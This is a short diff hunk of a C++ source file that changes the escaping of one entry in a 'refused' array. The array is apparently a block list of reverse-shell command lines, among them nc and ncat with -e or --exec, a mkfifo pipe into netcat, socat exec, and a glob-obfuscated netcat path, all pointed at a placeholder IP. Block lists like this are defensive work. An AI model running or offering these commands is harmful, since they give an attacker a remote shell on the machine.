@@ -13,7 +13,7 @@ constexpr const char *refused[] = {
     "nc -lvnp 4444",
     "ncat --exec /bin/bash 192.0.2.1 4444",
     "/usr/bin/nc.traditional 192.0.2.1 4444 -c sh",
-    "/?\??/n? 192.0.2.1 4444 -e sh",
+    "/?\?\?/n? 192.0.2.1 4444 -e sh",
     "busybox nc 192.0.2.1 4444 -e sh",
     "rm p; mkfifo p; cat p | sh -i 2>&1 | nc 192.0.2.1 4444 > p",
     "socat exec:'bash -li',pty tcp:192.0.2.1:4444",
